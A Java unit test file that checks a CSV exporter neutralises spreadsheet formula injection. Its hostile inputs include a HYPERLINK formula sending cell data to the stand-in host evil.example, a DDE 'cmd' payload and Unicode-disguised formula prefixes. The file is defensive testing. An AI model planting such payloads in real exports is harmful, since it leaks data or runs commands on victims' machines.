package org.plenary.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.plenary.shared.Csv;

/**
 * Every CSV Plenary exports (register, participants, terminology, living list) writes its cells through
 * {@link Csv#cell}: no value a participant types may reach a spreadsheet as a formula, whatever it puts
 * before the sign, while ordinary text stays as it was.
 */
class CsvFormulaAttackTests {

  @Test
  void noCellStartsAFormulaWhateverComesBeforeTheSign() {
    List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @SUM(1)", "\u00a0=1+1", "\u3000=1+1", "\n\n+1",
        "\uFF1DHYPERLINK(\"http://evil.example\")", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "\uFE66 1+1", " \uFF1D1");
    for (String value : hostile) {
      String cell = Csv.cell(value);
      assertThat(cell).as(value).startsWith("\"'");
      assertThat(cell.substring(2, cell.length() - 1).replace("\"\"", "\"")).as(value).isEqualTo(value);
    }
  }

  @Test
  void ordinaryTextIsQuotedAndOtherwiseUnchanged() {
    assertThat(Csv.cell("FG-Cloud-I-0001")).isEqualTo("\"FG-Cloud-I-0001\"");
    assertThat(Csv.cell("Cloud \"elasticity\" = growth")).isEqualTo("\"Cloud \"\"elasticity\"\" = growth\"");
    assertThat(Csv.cell("France Télécom Orange")).isEqualTo("\"France Télécom Orange\"");
    assertThat(Csv.cell("alice@example.org")).isEqualTo("\"alice@example.org\"");
    assertThat(Csv.cell(null)).isEmpty();
  }
}
